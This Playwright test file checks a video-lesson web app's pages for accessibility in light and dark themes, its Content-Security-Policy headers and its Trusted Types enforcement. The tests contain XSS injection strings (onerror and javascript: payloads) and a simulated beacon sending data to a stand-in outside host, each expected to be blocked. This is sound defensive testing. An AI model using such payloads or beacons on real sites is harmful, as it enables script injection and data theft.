import { expect, type Page } from '@playwright/test';
import type { Account } from '../client/accounts.ts';
import type { Lesson } from '../client/videos.ts';
import { findColourFaults, findSeriousFaults } from '../fixtures/accessibility.ts';
import { playLesson } from '../fixtures/play-lesson.ts';
import { test } from '../fixtures/test.ts';
import { watchPage } from '../fixtures/watched-page.ts';
import { ActivationPage } from '../page-objects/activation-page.ts';
import { LibraryPage } from '../page-objects/library-page.ts';
import { SignInPage } from '../page-objects/sign-in-page.ts';
import { UploadsPage } from '../page-objects/uploads-page.ts';
import { UsersPage } from '../page-objects/users-page.ts';
import { WatchPage } from '../page-objects/watch-page.ts';

interface Visitors {
  readonly learner: Account;
  readonly admin: Account;
  readonly lesson: Lesson;
}

type Look = (name: string) => Promise<void>;

/** Ways through the product; together they come by every page. */
const tours: readonly {
  readonly name: string;
  go(page: Page, look: Look, visitors: Visitors): Promise<void>;
}[] = [
  {
    name: 'a stranger',
    async go(page, look) {
      const signIn = new SignInPage(page);
      await signIn.open();
      await look('sign-in');
      await signIn.submit({ contactNumber: '9800000000', password: 'no such password' });
      await expect(signIn.error).toBeVisible();
      await look('sign-in refused');
      await new ActivationPage(page).open();
      await look('activation');
      await page.goto('/no/such/page');
      await expect(page.getByRole('heading', { name: 'This page does not exist' })).toBeVisible();
      await look('not found');
    },
  },
  {
    name: 'a learner',
    async go(page, look, { learner, lesson }) {
      await new SignInPage(page).signIn(learner);
      const library = new LibraryPage(page);
      await expect(library.lesson(lesson.title)).toBeVisible();
      await look('library');
      await library.openLesson(lesson.title);
      const watch = new WatchPage(page);
      await expect(page.getByRole('button', { name: 'Confirm and watch' })).toBeVisible();
      await look('password question');
      await watch.confirmPassword(learner.password);
      await expect(watch.overlay).toBeVisible();
      await look('fullscreen overlay');
      await watch.enterFullscreen();
      await watch.expectPlaying();
      await look('player');
    },
  },
  {
    name: 'an administrator',
    async go(page, look, { admin, lesson }) {
      await new SignInPage(page).signIn(admin);
      await new UploadsPage(page).open();
      await expect(page.getByRole('heading', { name: lesson.title })).toBeVisible();
      await look('uploads');
      await new UsersPage(page).open();
      await expect(page.getByRole('row').nth(1)).toBeVisible();
      await page.getByRole('button', { name: 'Create learner' }).first().click();
      // Their looks: `account-screens.spec.ts`.
      await expect(page.getByRole('dialog')).toBeVisible();
    },
  },
];

for (const { name, go } of tours) {
  test(`${name} meets our server alone, and no barrier in light or dark`, async ({
    page,
    server,
    lesson,
    learner,
    adminAccount,
  }) => {
    await page.emulateMedia({ colorScheme: 'light', reducedMotion: 'reduce' });
    const watched = await watchPage(page, server.origin);
    const findings: Record<string, string[]> = {};
    const ink = () => page.evaluate(() => getComputedStyle(document.body).color);
    const look = async (place: string) => {
      const inks = new Set<string>();
      for (const [colorScheme, find] of [
        ['dark', findColourFaults],
        ['light', findSeriousFaults],
      ] as const) {
        await page.emulateMedia({ colorScheme });
        await expect(page.locator('html')).toHaveAttribute('data-theme', colorScheme);
        const found = await find(page);
        inks.add(await ink());
        if (found.length > 0) findings[`${place}, ${colorScheme}`] = found;
      }
      expect(inks.size, `${place} is dark where the device is`).toBe(2);
    };
    await go(page, look, { learner, admin: adminAccount, lesson });
    const allWell = { outside: [], violations: [], errors: [], findings: {} };
    expect({ ...watched, findings }).toEqual(allWell);
  });
}

test('the page that describes the API shows its calls, and its policies refuse nothing of it', async ({
  page,
  server,
}) => {
  const watched = await watchPage(page, server.origin);
  await page.goto('/api/v1/docs/');
  const calls = page.locator('.opblock-summary-control');
  // All calls are drawn at once: the slowest page of all.
  await calls.first().click({ timeout: 120_000 });
  await expect(page.locator('.opblock-body').first()).toBeVisible({ timeout: 120_000 });
  // Formatted, not only written.
  await expect(page.locator('.info code').first()).toBeVisible();
  expect(watched).toEqual({ outside: [], violations: [], errors: [] });
  // Planted code still can't run, in any of its forms.
  const refusal = await page.evaluate(() => {
    const told = (write: () => void) => {
      try {
        write();
        return 'written';
      } catch (error) {
        return error instanceof Error ? error.name : 'thrown';
      }
    };
    const box = document.createElement('div');
    return [
      told(() => (box.innerHTML = '<p class="a">plain</p>')),
      told(() => (box.innerHTML = '<img src="x" onerror="alert(1)">')),
      told(() => (box.innerHTML = '<a href="javascript:alert(1)">x</a>')),
      told(() => document.createElement('script').setAttribute('src', '/other.js')),
      told(() => (document.createElement('script').text = 'alert(1)')),
    ];
  });
  expect(refusal).toEqual(['written', 'TypeError', 'TypeError', 'TypeError', 'TypeError']);
});

test('the policy of every page allows nothing inline, no eval and no other origin', async ({
  server,
}) => {
  const policies = await Promise.all(
    ['/', '/login', '/watch/any', '/no/such/page'].map(async (path) => {
      const answer = await fetch(`${server.origin}${path}`);
      expect(answer.headers.get('content-type')).toContain('text/html');
      return answer.headers.get('content-security-policy') ?? '';
    }),
  );
  const allowed = /^('none'|'self'|blob:|'script')$/;
  for (const policy of policies) {
    const directives = new Map(
      policy.split(';').map((part) => {
        const [directive = '', ...sources] = part.trim().split(/\s+/);
        return [directive, sources] as const;
      }),
    );
    expect(directives.get('default-src')).toEqual(["'none'"]);
    expect(directives.get('script-src')).toEqual(["'self'"]);
    expect(directives.get('frame-ancestors')).toEqual(["'none'"]);
    // Ours: it takes the addresses of our own workers alone (`trust-own-scripts.ts`).
    expect(directives.get('trusted-types')).toEqual(['default']);
    directives.delete('trusted-types');
    // A path, so that reports stay here too.
    expect(directives.get('report-uri')).toEqual(['/api/v1/security/policy-reports']);
    directives.delete('report-uri');
    for (const source of [...directives.values()].flat()) expect(source).toMatch(allowed);
  }
});

test('what a planted script would send out or run is stopped and noticed', async ({
  page,
  server,
  lesson,
  learner,
}) => {
  const watched = await watchPage(page, server.origin);
  await playLesson(page, learner, lesson);
  await page.evaluate(() => {
    const picture = new Image();
    picture.src = 'https://outside.invalid/collect?keys=1';
    const style = document.createElement('style');
    style.textContent = 'body { display: none }';
    document.head.append(style);
    void fetch('https://outside.invalid/collect').catch(() => undefined);
  });
  await expect
    .poll(() => watched.violations)
    .toEqual(
      expect.arrayContaining([
        expect.stringContaining('img-src https://outside.invalid'),
        expect.stringContaining('connect-src https://outside.invalid'),
        expect.stringMatching(/^style-src/),
      ]),
    );
});
